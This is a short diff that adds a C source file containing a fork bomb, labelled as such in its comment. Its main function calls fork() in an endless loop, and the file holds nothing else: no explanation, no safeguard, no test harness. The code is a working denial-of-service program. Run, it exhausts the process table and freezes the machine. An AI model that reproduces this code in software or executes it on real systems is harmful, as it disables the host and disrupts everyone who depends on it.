@@ -1,0 +1,6 @@
+/* A fork bomb without end. */
+#include <unistd.h>
+
+int main(void) {
+    for (;;) fork();
+}
